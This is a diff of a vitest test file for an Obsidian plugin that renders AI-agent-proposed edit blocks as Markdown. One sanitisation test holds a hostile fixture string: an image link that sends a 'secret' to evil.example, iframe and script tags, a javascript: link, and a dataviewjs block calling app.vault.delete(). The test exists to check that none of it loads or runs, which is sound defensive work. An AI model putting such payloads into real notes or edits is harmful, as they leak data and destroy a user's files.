@@ -3,9 +3,11 @@
 import { beforeEach, expect, it, vi } from "vitest";
 import { findings } from "./elements";
 
-vi.mock("obsidian", () => {
+vi.mock("obsidian", async () => {
+  const { MarkdownRenderer } = await import("./renderer");
   class Component {
     private readonly ends: (() => void)[] = [];
+    load() {}
     register(work: () => void) {
       this.ends.push(work);
     }
@@ -16,7 +18,7 @@ vi.mock("obsidian", () => {
   class TFile {
     constructor(readonly path: string) {}
   }
-  return { Component, Notice: class { constructor(text: string) { notices.push(text); } }, TFile, MarkdownRenderChild: Component, MarkdownView: class {}, setIcon: () => undefined, getIcon: () => null };
+  return { Component, MarkdownRenderer, Notice: class { constructor(text: string) { notices.push(text); } }, TFile, MarkdownRenderChild: Component, MarkdownView: class {}, setIcon: () => undefined, getIcon: () => null };
 });
 const notices: string[] = [];
 const { TFile } = await import("obsidian");
@@ -39,7 +41,7 @@ const plugin = {
   app,
   editors,
   decisions: new Decisions(editors, connection as never, { hunksOf: () => [], loadBlocks: async () => undefined } as never),
-  host: { href: () => undefined, open: () => undefined },
+  host: { app: {}, href: () => undefined, open: () => undefined },
   registerMarkdownCodeBlockProcessor: (name: string, draw: never) => void drawers.set(name, draw),
 };
 registerBlocks(plugin as never);
@@ -60,7 +62,7 @@ it("draws both texts as Markdown with their badge, and decides at the server", a
   const root = shown('{"id":"c4-1","type":"replace","before":"two **cans**\\n","after":"- one can\\n"}');
 
   expect(root.querySelector(".ai-edit-badge-replace")?.textContent).toBe("[~] Replace");
-  expect(root.querySelector(".ai-edit-before strong")?.textContent).toBe("cans");
+  await vi.waitFor(() => expect(root.querySelector(".ai-edit-before strong")?.textContent).toBe("cans"));
   expect(root.querySelector(".ai-edit-after li")?.textContent).toBe("one can");
   expect(await findings()).toEqual([]);
   root.querySelector<HTMLElement>(".ai-edit-accept")!.click();
@@ -80,9 +82,10 @@ it.each(["", "{", "null", "[]", '{"id":1}', '{"id":"a","type":"move"}', '{"id":"
   expect(shown(source).textContent).toBe("Invalid edit block");
 });
 
-it("loads nothing and runs nothing of what an agent proposes", () => {
+it("loads nothing and runs nothing of what an agent proposes", async () => {
   const hostile = "![x](https://evil.example/?q=secret) <img src=https://evil.example/y> <iframe src=https://evil.example></iframe>\n\n![[https://evil.example/z.png]]\n\n```dataviewjs\napp.vault.delete()\n```\n\n[x](javascript:1) <script>window.hurt = 1</script>";
   const root = shown(JSON.stringify({ id: "1", type: "replace", before: hostile, after: hostile }));
+  await vi.waitFor(() => expect(root.querySelector(".ai-edit-after")?.textContent).toContain("app.vault.delete()"));
 
   expect(root.querySelectorAll("img, iframe, script, video, audio, object, embed, link, style").length).toBe(0);
   expect([...root.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((address) => /javascript/.test(address ?? ""))).toEqual([]);
